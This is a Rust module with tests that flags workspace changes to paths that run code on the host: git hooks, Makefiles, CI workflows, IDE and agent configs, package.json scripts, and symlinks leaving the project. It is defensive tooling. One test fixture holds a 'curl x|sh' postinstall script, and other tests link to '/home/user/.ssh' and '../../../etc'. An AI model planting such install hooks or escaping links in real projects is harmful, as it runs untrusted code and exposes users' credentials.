//! Paths that run code on the host without anyone asking: changes to them are flagged for
//! review in `diff` and `export` output, whatever else changed.
//!
//! The rules ([`RULES`]) match path components anywhere in the workspace (a nested project or
//! submodule has its own `.git/hooks`, `Makefile` and `package.json`), compared exactly
//! (case-sensitively):
//!
//! | path | why |
//! |---|---|
//! | `.git/hooks/*` | git runs hooks on commit, checkout, merge, push (and `git diff` never shows them) |
//! | `.git/config` | sets hook paths, aliases, filters, `core.fsmonitor`, `core.sshCommand`: commands git runs |
//! | `.githooks/**`, `.husky/**`, `.pre-commit-config.yaml` | hook directories and hook managers |
//! | `Makefile`, `makefile`, `GNUmakefile`, `*.mk` | `make` runs their recipes |
//! | `package.json` whose `scripts` changed | npm, yarn and pnpm run scripts, install hooks on install |
//! | `.github/workflows/**`, `.gitlab-ci.yml` | CI runs them with the repository's secrets |
//! | `.vscode/**` | tasks (some run on folder open), launch configurations, settings naming programs |
//! | `.idea/**` | JetBrains run configurations and startup tasks |
//! | `.devcontainer/**` | dev container lifecycle commands |
//! | `.envrc` | direnv runs it when a shell enters the directory |
//! | `.claude/**`, `.cursor/**`, `.mcp.json` | coding-agent settings: hooks, permissions, MCP server commands |
//! | `CLAUDE.md`, `AGENTS.md`, `.cursorrules` | instructions that coding agents on the host follow |
//! | a symbolic link to an absolute path or above the root | later writes through it leave the project |
//!
//! A `package.json` is flagged only when its `scripts` object differs (added, removed or
//! changed; a file that is not valid JSON counts as changed), so dependency bumps are not. A
//! symbolic link whose target is absolute or climbs above the workspace root with `..` is
//! flagged too: tools that later write through it write outside the project.

/// One rule: what it matches and why it matters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Rule {
    /// The pattern, for documentation.
    pub pattern: &'static str,
    /// The reason shown for a matching path.
    pub reason: &'static str,
}

/// Every rule, in the order they are tried ([`path_flag`]; `package.json` is
/// [`package_json_flag`]).
pub const RULES: [Rule; 16] = [
    Rule {
        pattern: ".git/hooks/*",
        reason: "git hook: git runs it on commit, checkout, merge or push",
    },
    Rule {
        pattern: ".git/config",
        reason: "git configuration: can make git run commands (hooksPath, aliases, filters, fsmonitor)",
    },
    Rule {
        pattern: ".githooks/**, .husky/**",
        reason: "git hooks directory: hook managers make git run these",
    },
    Rule {
        pattern: ".pre-commit-config.yaml",
        reason: "pre-commit configuration: hooks run on git commit",
    },
    Rule {
        pattern: "Makefile, makefile, GNUmakefile",
        reason: "Makefile: make runs its recipes",
    },
    Rule {
        pattern: "*.mk",
        reason: "make include file: make runs its recipes",
    },
    Rule {
        pattern: ".github/workflows/**",
        reason: "GitHub Actions workflow: CI runs it with the repository's secrets",
    },
    Rule {
        pattern: ".gitlab-ci.yml",
        reason: "GitLab CI configuration: CI runs it with the repository's secrets",
    },
    Rule {
        pattern: ".vscode/**",
        reason: "VS Code workspace configuration: tasks, launch configurations and settings run programs",
    },
    Rule {
        pattern: ".idea/**",
        reason: "JetBrains IDE configuration: run configurations and startup tasks",
    },
    Rule {
        pattern: ".devcontainer/**",
        reason: "dev container configuration: lifecycle commands run on the host's container engine",
    },
    Rule {
        pattern: ".envrc",
        reason: "direnv: runs when a shell enters the directory",
    },
    Rule {
        pattern: ".claude/**, .cursor/**, .mcp.json",
        reason: "coding-agent configuration: hooks, permissions and MCP server commands",
    },
    Rule {
        pattern: "CLAUDE.md, AGENTS.md, .cursorrules",
        reason: "coding-agent instructions: agents on the host follow them",
    },
    Rule {
        pattern: "package.json (scripts changed)",
        reason: "package.json \"scripts\" changed: npm, yarn and pnpm run them (install hooks on install)",
    },
    Rule {
        pattern: "symbolic link to an absolute path or above the root",
        reason: "symbolic link pointing outside the workspace: writes through it leave the project",
    },
];

/// The reason a symbolic link at `path` (relative to the workspace root) with `target` is
/// flagged: the target is absolute, or its `..` components climb above the workspace root.
pub fn link_flag(path: &str, target: &[u8]) -> Option<&'static str> {
    if target.first() == Some(&b'/') {
        return Some(RULES[15].reason);
    }
    // Directories between the root and the link.
    let mut depth = path.split('/').count() as i64 - 1;
    for part in target.split(|&b| b == b'/') {
        match part {
            b"" | b"." => {}
            b".." => depth -= 1,
            _ => depth += 1,
        }
        if depth < 0 {
            return Some(RULES[15].reason);
        }
    }
    None
}

/// The reason `path` (relative, `/`-separated) is flagged by a path rule, if it is. A
/// `package.json` is not flagged here: see [`package_json_flag`].
pub fn path_flag(path: &str) -> Option<&'static str> {
    let parts: Vec<&str> = path.split('/').collect();
    let last = parts.len() - 1;
    let name = parts[last];
    let has = |dir: &str| parts[..last].contains(&dir);
    let pair = |a: &str, b: &str, at_end: bool| {
        parts.windows(2).enumerate().any(|(i, w)| {
            w[0] == a && w[1] == b && (if at_end { i + 1 == last } else { i + 1 < last })
        })
    };
    let reason = |i: usize| Some(RULES[i].reason);
    if pair(".git", "hooks", false) {
        return reason(0);
    }
    if pair(".git", "config", true) {
        return reason(1);
    }
    if has(".githooks") || has(".husky") {
        return reason(2);
    }
    match name {
        ".pre-commit-config.yaml" => return reason(3),
        "Makefile" | "makefile" | "GNUmakefile" => return reason(4),
        ".gitlab-ci.yml" => return reason(7),
        ".envrc" => return reason(11),
        ".mcp.json" => return reason(12),
        "CLAUDE.md" | "AGENTS.md" | ".cursorrules" => return reason(13),
        _ => {}
    }
    if name.len() > 3 && name.ends_with(".mk") {
        return reason(5);
    }
    if pair(".github", "workflows", false) {
        return reason(6);
    }
    for (dir, i) in [
        (".vscode", 8),
        (".idea", 9),
        (".devcontainer", 10),
        (".claude", 12),
        (".cursor", 12),
    ] {
        if has(dir) {
            return reason(i);
        }
    }
    None
}

/// Whether `path` names a `package.json`.
pub fn is_package_json(path: &str) -> bool {
    path == "package.json" || path.ends_with("/package.json")
}

/// A stable fingerprint of a `package.json`'s `scripts`: `None` when it has none, the
/// canonical JSON of the object when it parses, and a marker with the file's length when the
/// file is not valid JSON (so any change to it counts).
pub fn scripts_fingerprint(contents: &[u8]) -> Option<String> {
    match serde_json::from_slice::<serde_json::Value>(contents) {
        // serde_json's maps are sorted, so equal objects print equally.
        Ok(value) => value.get("scripts").map(|s| s.to_string()),
        Err(_) => Some(format!(
            "<not JSON: {} bytes, {}>",
            contents.len(),
            short_hash(contents)
        )),
    }
}

fn short_hash(bytes: &[u8]) -> String {
    use sha2::Digest;
    let digest = sha2::Sha256::digest(bytes);
    digest[..8].iter().map(|b| format!("{b:02x}")).collect()
}

/// The reason a `package.json` change is flagged: its `scripts` differ between `old` and `new`
/// (`None`: no such file).
pub fn package_json_flag(old: Option<&[u8]>, new: Option<&[u8]>) -> Option<&'static str> {
    let before = old.and_then(scripts_fingerprint);
    let after = new.and_then(scripts_fingerprint);
    (before != after).then_some(RULES[14].reason)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hooks_makefiles_ci_and_agent_configuration_are_flagged_at_any_depth() {
        // Arrange
        let flagged = [
            ".git/hooks/pre-commit",
            "vendor/lib/.git/hooks/post-checkout",
            ".git/config",
            ".husky/pre-push",
            "Makefile",
            "sub/GNUmakefile",
            "build/rules.mk",
            ".github/workflows/ci.yml",
            ".gitlab-ci.yml",
            ".vscode/tasks.json",
            ".vscode/settings.json",
            ".idea/workspace.xml",
            ".claude/settings.json",
            ".cursor/mcp.json",
            ".mcp.json",
            "CLAUDE.md",
            ".envrc",
            ".devcontainer/devcontainer.json",
        ];
        let plain = [
            "src/main.rs",
            "README.md",
            ".git/HEAD",
            ".git/hooks",
            ".gitconfig/x",
            "docs/.git-config",
            "notes.mk.txt",
            ".mk",
            "makefile.rs",
            ".github/CODEOWNERS",
            "package.json",
        ];

        // Act
        let missed: Vec<&&str> = flagged.iter().filter(|p| path_flag(p).is_none()).collect();
        let extra: Vec<&&str> = plain.iter().filter(|p| path_flag(p).is_some()).collect();

        // Assert
        assert!(missed.is_empty(), "not flagged: {missed:?}");
        assert!(extra.is_empty(), "flagged: {extra:?}");
        assert!(path_flag(".git/hooks/pre-commit")
            .unwrap()
            .contains("git hook"));
    }

    #[test]
    fn links_leaving_the_workspace_are_flagged() {
        // Arrange / Act / Assert
        assert!(link_flag("src", b"/home/user/.ssh").is_some());
        assert!(link_flag("a/b/link", b"../../../etc").is_some());
        assert!(link_flag("link", b"sub/../../x").is_some());
        assert_eq!(link_flag("a/b/link", b"../../README.md"), None);
        assert_eq!(link_flag("link", b"./src/../docs"), None);
    }

    #[test]
    fn package_json_is_flagged_only_when_its_scripts_change() {
        // Arrange
        let old = br#"{"name":"a","scripts":{"test":"jest","build":"tsc"}}"#;
        let reordered = br#"{"scripts":{"build":"tsc","test":"jest"},"name":"a","version":"2"}"#;
        let new_script = br#"{"name":"a","scripts":{"test":"jest","postinstall":"curl x|sh"}}"#;
        let no_scripts = br#"{"name":"a"}"#;

        // Act / Assert
        assert_eq!(package_json_flag(Some(old), Some(reordered)), None);
        assert!(package_json_flag(Some(old), Some(new_script)).is_some());
        assert!(package_json_flag(Some(old), Some(no_scripts)).is_some());
        assert!(package_json_flag(None, Some(new_script)).is_some());
        assert_eq!(package_json_flag(None, Some(no_scripts)), None);
        assert!(package_json_flag(Some(old), Some(b"{not json")).is_some());
        assert!(is_package_json("web/package.json") && !is_package_json("package.json5"));
    }
}
